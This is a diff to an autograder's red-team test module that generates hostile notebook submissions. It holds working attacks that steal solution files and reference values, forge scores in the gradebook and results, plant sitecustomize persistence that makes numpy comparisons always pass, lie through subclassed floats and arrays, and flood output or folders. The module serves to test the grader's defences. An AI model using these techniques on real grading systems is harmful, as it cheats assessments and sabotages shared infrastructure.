@@ -1,10 +1,15 @@
-"""Hostile submissions against tf_basics, built from the released student notebook.
+"""Hostile submissions against any assignment, built from its released student notebook.
 
 ``ATTACKS`` maps an attack name to ``fn(nb, env) -> attacked notebook``; ``build(name, nb, env)`` calls it on
 a copy. Each docstring says what the attack tries. The attacker is assumed to be strong: it knows where the
-course checkout and the batch's output folder are (``Env``), every check name, and the public expected
-values that the released notebook prints in its visible checks. It never knows a hidden reference value,
-and no attack contains a correct solution of its own: if an attack raises a score, the grader let it.
+course checkout, the assignment's instructor folder and the batch's output folder are (``Env``), every check
+name, and the public expected values that the released notebook prints in its visible checks. It never
+knows a hidden reference value, and no attack contains a correct solution of its own: if an attack raises a
+score, the grader let it.
+
+The attacks act on cells by their nbgrader metadata (solution cells, test cells, the ``imports`` cell) and
+on the grader's files, so they apply to every assignment: the fast suite runs them on the numpy-only toy,
+a slow smoke test runs a few on tf_basics with TensorFlow.
 
 ``TAMPERING`` names the attacks that change the instructor's cells or their metadata; the grader must
 report those as tampering. The other attacks act from inside the student's code.
@@ -27,7 +32,11 @@ MIME = "application/vnd.autograder.record+json"
 class Env:
     """What an attacker is told about the grading machine (the strongest realistic guesses)."""
 
-    repo: Path  # the course checkout: source_solutions/, reference values, the shared helper modules
+    repo: Path  # the course checkout: the shared helper modules (autograder/student/)
+    name: str  # the assignment's name
+    source_dir: Path  # its instructor folder: source notebook, grading.toml, reference.json
+    notebook: str  # the notebook's file name
+    release_dir: Path | None  # where its released copy and helper modules live, if it has one on disk
     out: Path  # the batch's --out folder: results/, gradebook.db, grades.csv
     solution_url: str  # a server on the grading machine's loopback that serves the solution code
     outside_url: str = "http://192.0.2.1:80/solution.py"  # an address beyond the machine (TEST-NET-1)
@@ -37,17 +46,20 @@ class Env:
     groups: dict[str, list[str]] = dataclasses.field(default_factory=dict)  # test grade_id -> check names
 
 
-def env_for(spec, reference_doc: dict, *, repo: Path, out: Path, solution_url: str) -> Env:
-    """An Env for the tf_basics spec; forged values come only from visible checks (public)."""
+def env_for(spec, reference_doc: dict, *, repo: Path, out: Path, solution_url: str, release_dir: Path | None = None) -> Env:
+    """An Env for an assignment's spec; forged values come only from visible checks (public)."""
     forged, groups = {}, {}
     for group in spec.groups:
         names = [c.name for c in group.checks]
         groups[group.grade_id] = names
         public = [c.name for c in group.checks if c.visible]
-        guess = reference_doc["values"][public[0]]
+        guess = reference_doc["values"][public[0]] if public else {"type": "none"}
         for check in group.checks:
             forged[check.name] = reference_doc["values"][check.name] if check.visible else guess
-    return Env(repo=repo, out=out, solution_url=solution_url, forged=forged, groups=groups)
+    return Env(
+        repo=repo, name=spec.name, source_dir=spec.folder, notebook=spec.notebook, release_dir=release_dir,
+        out=out, solution_url=solution_url, forged=forged, groups=groups,
+    )
 
 
 # ------------------------------------------------------------------------------- notebook surgery
@@ -100,7 +112,16 @@ def _blank_body(name: str, args: str) -> str:
     return f"def {name}({args}):\n    raise NotImplementedError()\n"
 
 
-# A helper cell that finds files on the grading machine: the given guesses, then a shallow walk.
+def _first_arg(args: str) -> str | None:
+    first = args.split(",")[0].split("=")[0].strip()
+    return first or None
+
+
+def _finder(env: Env) -> str:
+    """A helper cell that finds files on the grading machine: the given guesses, then a shallow walk."""
+    return FINDER.replace("SUBFOLDERS", repr(("", f"source_solutions/{env.name}", env.name, "grading", "out")))
+
+
 FINDER = '''
 import json as _json, os as _os
 def _find(name, guesses):
@@ -109,7 +130,7 @@ def _find(name, guesses):
             return path
     here = _os.getcwd()
     while True:
-        for sub in ("", "source_solutions/tf_basics", "grading", "out"):
+        for sub in SUBFOLDERS:
             path = _os.path.join(here, sub, name)
             if _os.path.isfile(path):
                 return path
@@ -135,10 +156,10 @@ def _after_imports(nb, source: str) -> None:
 
 def read_solution_notebook(nb, env: Env):
     """Find the instructor's source notebook on disk and exec its solution cells in place of the answers."""
-    guess = env.repo / "source_solutions" / "tf_basics" / "tf_basics.ipynb"
-    _after_imports(nb, FINDER + textwrap.dedent(f'''
+    guess = env.source_dir / env.notebook
+    _after_imports(nb, _finder(env) + textwrap.dedent(f'''
         _SOLUTIONS = {{}}
-        _path = _find("tf_basics.ipynb", [{str(guess)!r}])
+        _path = _find({env.notebook!r}, [{str(guess)!r}])
         try:
             for _cell in _json.load(open(_path))["cells"]:
                 _meta = _cell.get("metadata", {{}}).get("nbgrader", {{}})
@@ -158,8 +179,8 @@ def read_solution_notebook(nb, env: Env):
 
 def read_reference_values(nb, env: Env):
     """Read reference.json from disk and replay the hidden and visible reference values as records."""
-    guess = env.repo / "source_solutions" / "tf_basics" / "reference.json"
-    _after_imports(nb, FINDER + textwrap.dedent(f'''
+    guess = env.source_dir / "reference.json"
+    _after_imports(nb, _finder(env) + textwrap.dedent(f'''
         from IPython.display import display as _display
         try:
             _REFS = _json.load(open(_find("reference.json", [{str(guess)!r}])))["values"]
@@ -182,7 +203,7 @@ def read_reference_values(nb, env: Env):
 def read_gradebook(nb, env: Env):
     """Open the gradebook (and grades.csv, results/) in the output folder; exec any solution code found there."""
     guesses = [str(env.out / "gradebook.db"), str(env.out / "grades.csv")]
-    _after_imports(nb, FINDER + textwrap.dedent(f'''
+    _after_imports(nb, _finder(env) + textwrap.dedent(f'''
         import glob as _glob, sqlite3 as _sqlite3
         _FOUND = []
         _db = _find("gradebook.db", [{guesses[0]!r}])
@@ -220,7 +241,7 @@ def write_results_and_gradebook(nb, env: Env):
         for path in glob.glob(os.path.join(out, "results", "*.json")) + [os.path.join(out, "results", "ghost.json")]:
             try:
                 data = json.load(open(path)) if os.path.exists(path) else {{"student": "ghost", "result": {{}}}}
-                data["result"]["score"] = data["result"].get("max_score", 23.0)
+                data["result"]["score"] = data["result"].get("max_score", 1000.0)
                 data["sha256"] = "0" * 64
                 json.dump(data, open(path, "w"))
                 written.append(path)
@@ -238,7 +259,7 @@ def write_results_and_gradebook(nb, env: Env):
             print("gradebook:", type(exc).__name__)
         try:
             with open(os.path.join(out, "grades.csv"), "a") as f:
-                f.write("ghost,23,23\\n")
+                f.write("ghost,1000,1000\\n")
             written.append("grades.csv")
         except Exception as exc:
             print("csv:", type(exc).__name__)
@@ -249,7 +270,7 @@ def write_results_and_gradebook(nb, env: Env):
 
 def overwrite_reference_values(nb, env: Env):
     """Rewrite reference.json and grading.toml on disk to zeros and huge tolerances, then return zeros."""
-    folder = env.repo / "source_solutions" / "tf_basics"
+    folder = env.source_dir
     _after_imports(nb, textwrap.dedent(f'''
         import json, os, re
         folder = {str(folder)!r}
@@ -271,13 +292,14 @@ def overwrite_reference_values(nb, env: Env):
 
 def persist_in_environment(nb, env: Env):
     """Plant code for later kernels: a sitecustomize in the venv, a patched shared selfcheck.py in the checkout."""
+    released = [str(env.release_dir / "selfcheck.py")] if env.release_dir else []
     _after_imports(nb, textwrap.dedent(f'''
-        import os, site, sys, sysconfig
+        import os, sysconfig
         payload = "import numpy\\nnumpy.allclose = lambda *a, **k: True\\n"
         targets = [os.path.join(sysconfig.get_paths()["purelib"], "sitecustomize.py"),
-                   os.path.join(sys.prefix, "lib", "python3.11", "site-packages", "usercustomize.py"),
+                   os.path.join(sysconfig.get_paths()["purelib"], "usercustomize.py"),
                    {str(env.repo / "autograder" / "student" / "selfcheck.py")!r},
-                   {str(env.repo / "assignments" / "tf_basics" / "selfcheck.py")!r}]
+                   {str(env.source_dir / "selfcheck.py")!r}] + {released!r}
         for path in targets:
             try:
                 with open(path, "a") as f:
@@ -373,9 +395,10 @@ def forge_records_student_cell(nb, env: Env):
 
 
 def forge_records_in_function(nb, env: Env):
-    """Each graded function prints records for every check name while a test cell runs it."""
+    """Each graded function prints records for every check name while a test cell runs it, then raises, so the
+    test cell records nothing of its own beside them (a name recorded twice fails)."""
     _after_imports(nb, _forge_code(env))
-    _define_all(nb, lambda name, args: "_forge()\nreturn None\n")
+    _define_all(nb, lambda name, args: "_forge()\nraise NotImplementedError()\n")
     return nb
 
 
@@ -540,14 +563,14 @@ def fork_bomb(nb, env: Env):
 
 
 def output_flood(nb, env: Env):
-    """Print hundreds of MiB (stdout, stderr, many small messages) from every graded function."""
+    """Print 32 MiB (stdout, stderr, many small messages) from every graded function, far past the output caps."""
     _define_all(nb, lambda name, args: textwrap.dedent('''
         import sys
         line = "x" * (1 << 20)
-        for _ in range(150):
+        for _ in range(16):
             sys.stdout.write(line)
             sys.stderr.write(line)
-        for i in range(20000):
+        for i in range(5000):
             print(i)
         raise NotImplementedError()
     '''))
@@ -671,6 +694,185 @@ def network_download(nb, env: Env):
     return nb
 
 
+# ------------------------------------------------------------------------------- lying arithmetic (issue #10)
+
+
+def _return_from_all(nb, setup: str, value: Callable[[str | None], str]) -> None:
+    """Run ``setup`` after the imports; every graded function returns the expression value(first argument)."""
+    _after_imports(nb, textwrap.dedent(setup))
+    _define_all(nb, lambda name, args: f"return {value(_first_arg(args))}\n")
+
+
+def _shape_of(arg: str | None) -> str:
+    # the shape of the first argument, or (n,) when it is a count: a guess at the shape of the answer
+    return f"(np.shape({arg}) or (int({arg}),))" if arg else "(1,)"
+
+
+def lying_float(nb, env: Env):
+    """Return a float subclass (nan underneath) whose ``-``, ``abs``, ``<``, ``>`` and ``==`` lie.
+
+    A test cell that judged ``abs(got - expected) < tol`` in the kernel, or recorded a quantity computed from
+    the result (``1 - got``), would see a perfect answer.
+    """
+    _return_from_all(nb, """
+        class _LyingFloat(float):
+            def __sub__(self, other): return 0.0
+            def __rsub__(self, other): return 0.0
+            def __abs__(self): return 0.0
+            def __lt__(self, other): return True
+            def __le__(self, other): return True
+            def __gt__(self, other): return False
+            def __ge__(self, other): return True
+            def __eq__(self, other): return True
+            def __ne__(self, other): return False
+            __hash__ = float.__hash__
+            shape = ()  # so that test cells recording a shape go on to record the values
+    """, lambda arg: "_LyingFloat('nan')")
+    return nb
+
+
+def lying_ndarray(nb, env: Env):
+    """Return an ndarray subclass (nan underneath, shaped like the first argument) whose ``__array_ufunc__`` lies.
+
+    Every comparison ufunc (``==``, ``<``, ``np.less_equal`` inside ``np.isclose``) answers all True and every
+    other ufunc (``-``, ``abs``, ``1 - x``) answers zeros, so any arithmetic done on it in the kernel agrees.
+    """
+    _return_from_all(nb, """
+        class _LyingArray(np.ndarray):
+            def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+                shape = np.broadcast_shapes(*[np.shape(i) for i in inputs])
+                if all(t.endswith("?") for t in ufunc.types):  # comparisons give booleans
+                    return np.ones(shape, dtype=bool)
+                return np.zeros(shape)
+    """, lambda arg: f"np.full({_shape_of(arg)}, np.nan).view(_LyingArray)")
+    return nb
+
+
+def lying_dict(nb, env: Env):
+    """Return a dict subclass whose ``__getitem__``, ``get`` and ``in`` lie: every key is there and holds a
+    lying float, so a test cell that read ``result["W1"]`` and compared it in the kernel would be fooled."""
+    _return_from_all(nb, """
+        class _LyingFloat(float):
+            def __sub__(self, other): return 0.0
+            def __rsub__(self, other): return 0.0
+            def __eq__(self, other): return True
+            __hash__ = float.__hash__
+        class _LyingDict(dict):
+            def __getitem__(self, key): return _LyingFloat("nan")
+            def get(self, key, default=None): return _LyingFloat("nan")
+            def __contains__(self, key): return True
+            shape = ()  # so that test cells recording a shape go on to record the values
+    """, lambda arg: "_LyingDict(value=float('nan'))")
+    return nb
+
+
+def patched_isinstance(nb, env: Env):
+    """Patch ``builtins.isinstance`` and ``builtins.type`` so that a fake result passes for an ndarray, and give
+    the fake the right shape (that of the first argument, or (n,) for a count) with nan for values.
+
+    A structural check in the kernel (``isinstance(out, np.ndarray) and type(out) is np.ndarray and out.shape
+    == expected``) would pass; the shapes the test cells record are right.
+    """
+    _return_from_all(nb, """
+        import builtins as _builtins
+        _real_isinstance, _real_issubclass, _real_type = isinstance, issubclass, type
+        class _Fake:
+            def __init__(self, shape):
+                self.shape, self.dtype = tuple(shape), np.dtype("float64")
+            def __array__(self, dtype=None, copy=None):
+                return np.full(self.shape, np.nan)
+        def _isinstance(obj, classes):
+            wanted = classes if _real_isinstance(classes, tuple) else (classes,)
+            if _real_type(obj) is _Fake and (np.ndarray in wanted or np.generic in wanted):
+                return True
+            return _real_isinstance(obj, classes)
+        class _TypeMeta(_real_type):  # isinstance(x, type) and issubclass(x, type) keep working
+            def __instancecheck__(cls, obj): return _real_isinstance(obj, _real_type)
+            def __subclasscheck__(cls, sub): return _real_issubclass(sub, _real_type)
+        class _LyingType(_real_type, metaclass=_TypeMeta):
+            def __new__(mcs, *args, **kwargs):
+                if len(args) == 1 and not kwargs:
+                    return np.ndarray if _real_type(args[0]) is _Fake else _real_type(args[0])
+                return _real_type(*args, **kwargs)
+        _builtins.isinstance, _builtins.type = _isinstance, _LyingType
+        print("fake passes for an ndarray:", isinstance(_Fake((2,)), np.ndarray), type(_Fake((2,))) is np.ndarray)
+    """, lambda arg: f"_Fake({_shape_of(arg)})")
+    return nb
+
+
+# ------------------------------------------------------------------------------- display updates (issue #10)
+
+
+def _display_setup(env: Env) -> str:
+    return textwrap.dedent(f'''
+        import json as _json
+        from IPython.display import display as _display, update_display as _update
+        _FORGED = _json.loads({json.dumps(env.forged)!r})
+        def _placeholders(function):
+            # shown inside the test cell that calls the function: one display id per check name
+            for _name in _FORGED:
+                if _name.startswith(function + "."):
+                    _display({{"text/plain": "placeholder"}}, raw=True, display_id="slot-" + _name)
+            raise NotImplementedError()
+    ''')
+
+
+def _placeholder_functions(nb) -> None:
+    for gid in solution_ids(nb):
+        name, args = _signature(nb, gid)
+        nb.cells[_index(nb, gid)].source = f"def {name}({args}):\n    _placeholders({name!r})\n"
+
+
+def display_update_test_cell(nb, env: Env):
+    """Each graded function shows placeholders inside the calling test cell, under display ids of its own, and
+    raises; the last cell turns every placeholder, with ``update_display``, into a record of the public
+    expected value (a guess for hidden checks), as if the test cell had recorded it."""
+    _after_imports(nb, _display_setup(env))
+    _placeholder_functions(nb)
+    nb.cells.append(_code_cell(textwrap.dedent(f'''
+        for _name, _payload in _FORGED.items():
+            _update({{{MIME!r}: {{"name": _name, "value": _payload}}, "text/plain": _name}}, raw=True, display_id="slot-" + _name)
+        print("rewritten")
+    ''')))
+    return nb
+
+
+def display_update_flood(nb, env: Env):
+    """The last cell floods display updates: 50 updates of 1 MB each to a display of its own and as many to the
+    placeholders shown inside the test cells (in turn), hoping to keep 100 MB in the graded notebook (and in the
+    grader's memory): updates rewrite outputs in place, past caps that count outputs as they arrive."""
+    _after_imports(nb, _display_setup(env))
+    _placeholder_functions(nb)
+    nb.cells.append(_code_cell(textwrap.dedent('''
+        _display({"text/plain": "mine"}, raw=True, display_id="flood")
+        _big, _slots = {"text/plain": "y" * 1_000_000}, ["slot-" + _name for _name in _FORGED]
+        for _i in range(50):
+            _update(_big, raw=True, display_id="flood")
+            _update(_big, raw=True, display_id=_slots[_i % len(_slots)])
+        print("flooded")
+    ''')))
+    return nb
+
+
+# ------------------------------------------------------------------------------- the working folder (issue #10)
+
+
+def deep_folder_tree(nb, env: Env):
+    """Leave 1500 nested folders in the working folder (deeper than Python's recursion limit), so that a
+    recursive cleanup raises, the worker dies, the folder stays, and every later grader trips on it when it
+    sweeps the leftovers of dead graders."""
+    _after_imports(nb, textwrap.dedent('''
+        import os as _os
+        _base = _os.getcwd()
+        for _ in range(1500):
+            _os.mkdir("d")
+            _os.chdir("d")
+        open("leaf.txt", "w").write("x")
+        _os.chdir(_base)
+    '''))
+    return nb
+
+
 ATTACKS: dict[str, Callable[[Any, Env], Any]] = {
     fn.__name__: fn
     for fn in (
@@ -705,6 +907,13 @@ ATTACKS: dict[str, Callable[[Any, Env], Any]] = {
         delete_test_cells,
         duplicate_test_cells,
         network_download,
+        lying_float,
+        lying_ndarray,
+        lying_dict,
+        patched_isinstance,
+        display_update_test_cell,
+        display_update_flood,
+        deep_folder_tree,
     )
 }
 
